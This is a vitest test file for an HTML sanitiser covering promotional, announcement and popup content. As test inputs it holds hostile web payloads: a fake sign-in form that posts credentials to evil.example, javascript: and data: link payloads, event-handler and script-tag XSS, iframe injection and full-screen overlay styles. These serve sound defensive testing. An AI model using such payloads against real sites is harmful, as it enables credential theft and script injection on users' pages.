import { afterEach, describe, expect, it } from 'vitest';
import { sanitizeHtml, type HtmlContext } from './sanitize';
import { trustedHtml } from './html';
import { trustedScriptUrl } from './trustedTypes';

const CONTEXTS: HtmlContext[] = ['promotion', 'announcement', 'popup'];

/** Renders sanitised HTML into the page, as the app does, and returns the container. */
function render(html: string, context: HtmlContext): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = trustedHtml(html, context).__html;
  document.body.append(div);
  return div;
}

declare global {
  interface Window {
    __pwned?: number;
  }
}

afterEach(() => {
  document.body.replaceChildren();
  delete window.__pwned;
});

describe.each(CONTEXTS)('%s content', (context) => {
  it('drops forms, their actions and every input, password ones first', () => {
    const out = sanitizeHtml(
      '<p>Sign in again</p><form action="https://evil.example/steal" method="post"><input name="user">' +
        '<input type="password" name="pw"><textarea></textarea><select><option>1</option></select>' +
        '<button formaction="https://evil.example">Go</button></form>',
      context,
    );
    const div = render(out, context);
    expect(div.querySelector('form, input, textarea, select, button')).toBeNull();
    expect(out).not.toMatch(/evil\.example|password|action/i);
    expect(div.textContent).toContain('Sign in again');
  });

  it('removes positioning and sizing styles, keeps colour and emphasis', () => {
    const out = sanitizeHtml(
      '<div style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:url(https://evil.example/x.png);color:red;font-weight:bold">Overlay</div>' +
        '<span style="position:absolute;top:0">x</span><p style="transform:scale(50)">y</p>',
      context,
    );
    expect(out).not.toMatch(/position|z-index|inset|width|height|transform|url\(/i);
    const div = render(out, context);
    const first = div.firstElementChild as HTMLElement;
    expect(first.style.color).toBe('red');
    expect(first.style.fontWeight).toBe('bold');
    expect(getComputedStyle(first).position).toBe('static');
  });

  it('keeps only http(s) links and opens them safely', () => {
    const out = sanitizeHtml(
      '<a href="javascript:window.__pwned=1">a</a><a href=" JaVaScRiPt:window.__pwned=1">b</a>' +
        '<a href="data:text/html,<script>alert(1)</script>">c</a><a href="vbscript:x">d</a>' +
        '<a href="https://promo.example/x" target="_self">e</a><a href="/m/activity">f</a>',
      context,
    );
    const div = render(out, context);
    const links = [...div.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      null,
      null,
      null,
      null,
      'https://promo.example/x',
      '/m/activity',
    ]);
    const web = links[4]!;
    expect(web.target).toBe('_blank');
    expect(web.rel).toBe('noopener noreferrer');
    for (const a of links.slice(0, 4)) a.click();
    expect(window.__pwned).toBeUndefined();
  });

  it('runs no script: event handlers, script tags, frames, embeds', async () => {
    const out = sanitizeHtml(
      '<img src="x" onerror="window.__pwned=1"><svg onload="window.__pwned=1"></svg>' +
        '<script>window.__pwned=1</script><iframe src="javascript:parent.__pwned=1"></iframe>' +
        '<object data="data:text/html,x"></object><embed src="x"><style>body{display:none}</style>' +
        '<details open ontoggle="window.__pwned=1"></details><body onload="window.__pwned=1">' +
        '<a href="#" onclick="window.__pwned=1">x</a><div id="root" name="cookie" class="frameRoot">z</div>',
      context,
    );
    expect(out).not.toMatch(
      /on(error|load|toggle|click)|script|iframe|object|embed|<style|id=|name=|class=/i,
    );
    render(out, context);
    await new Promise((r) => setTimeout(r, 50));
    expect(window.__pwned).toBeUndefined();
    expect(document.body.style.display).toBe('');
  });
});

it('the policy refuses script URLs outside the allow-list', () => {
  expect(() => trustedScriptUrl('data:text/javascript,window.__pwned=1')).toThrow(/refused/);
  expect(() => trustedScriptUrl('https://evil.example/sdk.js')).toThrow(/refused/);
  expect(String(trustedScriptUrl('/m/sw.js'))).toBe(`${location.origin}/m/sw.js`);
});
